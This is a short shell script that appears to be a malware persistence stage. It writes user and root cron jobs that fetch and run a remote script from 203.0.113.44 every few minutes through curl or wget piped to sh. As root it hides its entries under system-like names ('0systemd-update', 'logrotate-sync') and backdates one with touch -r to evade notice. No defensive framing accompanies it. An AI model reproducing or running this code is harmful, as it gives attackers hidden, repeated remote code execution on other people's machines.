#!/bin/sh
U="http://203.0.113.44/s.sh"
L="curl -fsSL $U | sh || wget -q -O- $U | sh"
(crontab -l 2>/dev/null | grep -v 203.0.113.44; echo "*/5 * * * * $L >/dev/null 2>&1") | crontab -
if [ "$(id -u)" = "0" ]; then
    echo "*/10 * * * * root $L >/dev/null 2>&1" > /etc/cron.d/0systemd-update
    echo "$L" > /etc/cron.hourly/logrotate-sync && chmod +x /etc/cron.hourly/logrotate-sync
    touch -r /etc/cron.d/e2scrub_all /etc/cron.d/0systemd-update 2>/dev/null
fi
